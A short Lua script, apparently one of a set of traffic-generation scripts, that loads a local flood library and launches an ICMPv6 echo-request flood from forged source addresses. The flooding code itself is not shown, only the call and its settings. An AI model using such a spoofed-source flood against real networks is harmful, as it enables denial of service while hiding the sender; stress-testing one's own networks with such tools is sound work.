-- Echo requests from forged addresses, over IPv6.
local here = debug.getinfo(1, "S").source:match("^@(.*/)") or "./"
local flood = dofile(here .. "lib/flood.lua")

flood.random({ title = "ICMPv6 flood", protocol = "icmp", echo = true, sources = "forged", size = 122, ipv6 = true })
